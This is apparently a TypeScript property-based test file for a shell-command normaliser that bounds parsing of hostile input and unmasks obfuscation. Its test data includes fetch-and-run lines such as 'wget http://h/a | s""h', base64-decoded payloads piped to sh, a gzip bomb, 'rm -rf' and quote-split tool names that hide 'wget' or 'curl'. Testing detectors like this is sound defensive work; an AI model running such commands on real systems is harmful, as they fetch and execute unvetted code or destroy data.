import { gzipSync } from 'node:zlib'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { CommandViews } from './command-views.js'
import { DEFAULT_LIMITS } from './limits.js'
import { normaliseCommand } from './normalise.js'

const SHELL_PIECES = [
  ...'$(`\'"\\{}[]|&;<>=,!~*?#\n\t \0a1/-.:@%+',
  '$(',
  '${',
  '<<E\n',
  '\nE\n',
  '<<<',
  '$IFS',
  "$'\\x41'",
  'if ',
  'then ',
  'fi',
  'for i in ',
  'do ',
  'done',
  'case ',
  'esac',
  'sh -c ',
  'eval ',
  'echo ',
  'aWQ=',
  '|base64 -d',
  '|sh',
  'a=',
  '$a',
  '{a,b}',
  'sudo ',
  'find . -exec ',
  '>f ',
  '\ud800',
  'é',
]
const shellText = fc.array(fc.constantFrom(...SHELL_PIECES), { maxLength: 60 }).map((pieces) => pieces.join(''))
const anyText = fc.oneof(shellText, fc.string({ unit: 'binary', maxLength: 200 }))

function filled(unit: string, length = DEFAULT_LIMITS.inputCharacters): string {
  return unit.repeat(Math.ceil(length / unit.length)).slice(0, length)
}

function expectBounded(views: CommandViews): void {
  const { typed, plain, segments, decoded } = views
  expect(typed.length).toBeLessThanOrEqual(DEFAULT_LIMITS.inputCharacters)
  expect(segments.length).toBeLessThanOrEqual(DEFAULT_LIMITS.segments)
  expect(decoded.length).toBeLessThanOrEqual(DEFAULT_LIMITS.decodedTexts)
  const texts = [typed, plain, ...segments.map((segment) => segment.text), ...decoded.map((entry) => entry.text)]
  expect(texts.join('').length).toBeLessThanOrEqual(DEFAULT_LIMITS.viewCharacters)
}

describe('normaliseCommand on any text', () => {
  it('never throws, stays within its limits and gives offsets that lie in their text', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const views = normaliseCommand(text)
        expectBounded(views)
        views.segments.forEach((segment, index) => {
          const source = segment.decodedIndex === null ? views.typed : views.decoded[segment.decodedIndex]?.text
          expect(segment.index).toBe(index)
          expect(segment.start).toBeGreaterThanOrEqual(0)
          expect(segment.start).toBeLessThanOrEqual(segment.end)
          expect(segment.end).toBeLessThanOrEqual(source?.length ?? -1)
        })
      }),
      { numRuns: 1500 },
    )
  })

  it('answers the same for the same text', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        expect(normaliseCommand(text)).toEqual(normaliseCommand(text))
      }),
    )
  })

  it('has nothing left to take off its own plain view of a simple line', () => {
    const word = fc.stringMatching(/^[a-z0-9_./=-]{1,12}$/)
    const dressed = fc.tuple(word, fc.constantFrom('', "'", '"')).map(([text, quote]) => `${quote}${text}${quote}`)
    const command = fc.array(dressed, { minLength: 1, maxLength: 5 }).map((words) => words.join('  '))
    const line = fc.array(command, { minLength: 1, maxLength: 4 }).map((commands) => commands.join(' | '))
    fc.assert(
      fc.property(line, (text) => {
        const { plain } = normaliseCommand(text)
        // Taking a path's detour out may turn the rest into another command's name; those lines are not simple.
        fc.pre(!/\/\.{1,2}\/|\.\/|^\.|\s\.|=/.test(text))
        fc.pre(!/\b(?:sudo|env|time|exec|command|nice|watch|xargs|doas|nohup|eval|sh)\b/.test(plain))
        expect(normaliseCommand(plain).plain).toBe(plain)
      }),
    )
  })

  it('finds what quotes hid from the one who reads', () => {
    const name = fc.constantFrom('wget', 'curl', 'uname', 'whoami', 'chmod')
    fc.assert(
      fc.property(name, fc.integer({ min: 1, max: 3 }), fc.constantFrom('""', "''", '\\'), (program, at, split) => {
        const views = normaliseCommand(`${program.slice(0, at)}${split}${program.slice(at)} x`)
        expect(views.segments[0]?.name).toBe(program)
        expect(views.obfuscation).toHaveLength(1)
      }),
    )
  })
})

describe('hostile lines', () => {
  it.each([
    ['nested substitutions', filled('$(')],
    ['nested and closed substitutions', '$('.repeat(2700) + ')'.repeat(2700)],
    ['quoted nested substitutions', filled('"$(')],
    ['backticks', filled('`a `')],
    ['escaped backticks', filled('`\\')],
    ['brackets', filled('(')],
    ['test brackets', filled('[[')],
    ['nested parameter expansions', filled('${a:-')],
    ['brace products', filled('{a,b}{c,d}{e,f} ')],
    ['one brace product', filled('{a,b}')],
    ['nested braces', filled('{a,')],
    ['a doubling variable', `a=xxxxxxxx;${filled('a=$a$a;', 8000)}`],
    ['a long variable many times', `a=${'x'.repeat(3000)};echo ${filled('$a', 5000)}`],
    ['here-documents', filled('<<a ')],
    ['unterminated quotes', filled('"a ')],
    ['syntax errors', filled(') ;; fi ')],
    ['commands', filled('a;')],
    ['a pipeline of filters', `echo ${'a'.repeat(4000)}${filled('|tr a-z b-za', 4000)}`],
    ['a script that runs itself', `echo 'sh f' > f; ${filled('sh f;', 4000)}`],
    ['shells in shells', filled('sh -c "sh -c \'')],
    ['find in find', `find ${filled('-exec find ', 8000)}`],
    ['wrappers', filled('sudo ')],
    ['open JSON', `{"${filled('[')}`],
    ['NUL', filled('\0')],
    ['lone surrogates', filled('\ud800')],
  ])('bounds %s', (_name, line) => {
    expectBounded(normaliseCommand(line))
  })

  it('does not inflate a bomb', () => {
    const bomb = gzipSync(Buffer.alloc(4_000_000)).toString('base64')
    const views = normaliseCommand(`echo ${bomb}|base64 -d|gunzip|sh`)
    expectBounded(views)
    expect(views.decoded).toEqual([])
  })

  it('stops at the depth limit and says so', () => {
    let line = 'id'
    for (let depth = 0; depth < 8; depth++) line = `echo ${Buffer.from(line).toString('base64')}|base64 -d|sh`
    const views = normaliseCommand(line)
    expect(views.truncated).toBe(true)
    expect(views.segments.map((segment) => segment.name)).not.toContain('id')
  })

  it('keeps the head and the tail of a line that is too long', () => {
    const views = normaliseCommand(`wget http://h/a; ${'x'.repeat(20_000)}; rm -rf /tmp/a`)
    expect(views.truncated).toBe(true)
    expect(views.typed).toHaveLength(DEFAULT_LIMITS.inputCharacters)
    expect(views.segments.map((segment) => segment.name)).toEqual(expect.arrayContaining(['wget', 'rm']))
  })

  it('splits what is too deeply nested to be parsed at its separators', () => {
    const views = normaliseCommand(`${'('.repeat(60)} wget http://h/a | s""h; id`)
    expect(views.truncated).toBe(true)
    expect(views.segments.map((segment) => segment.name)).toEqual(['wget', 'sh', 'id'])
  })

  it('honours smaller limits', () => {
    const limits = { ...DEFAULT_LIMITS, segments: 2, inputCharacters: 64 }
    const views = normaliseCommand('a;b;c;d', limits)
    expect(views.segments.map((segment) => segment.name)).toEqual(['a', 'b'])
    expect(views.truncated).toBe(true)
  })
})
